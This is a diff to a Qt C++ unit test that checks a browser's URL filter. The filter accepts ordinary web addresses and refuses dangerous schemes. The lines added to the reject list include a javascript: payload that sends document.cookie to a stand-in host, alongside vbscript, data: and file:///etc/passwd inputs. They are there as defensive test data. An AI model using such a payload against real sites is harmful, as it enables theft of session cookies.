@@ -88,7 +88,8 @@ private slots:
         for (const char *opens : {"http://a.example/", "HTTPS://a.example/x", "ftp://f.example/", "file:///tmp/x.html",
                                   "about:blank", "sina.com.cn", "localhost:8080/x", "搜索 词", ""})
             QVERIFY2(Sites::opensFromOutside(QString::fromUtf8(opens)), opens);
-        for (const char *never : {"javascript:alert(1)", " JavaScript:alert(1)", "data:text/html,x", "blob:http://a/1",
+        for (const char *never : {"javascript:alert(1)", " JavaScript:alert(1)", "javascript:1;fetch('//e/?'+document.cookie)",
+                                  "javascript:1", "data:text/html,x", "blob:http://a/1",
                                   "vbscript:x", "view-source:http://a/", "chrome://settings"})
             QVERIFY2(!Sites::opensFromOutside(QString::fromLatin1(never)), never);
         QVERIFY(Sites::isWebAddress(QStringLiteral(" https://a.example/")) && !Sites::isWebAddress(QStringLiteral("file:///etc/passwd")));
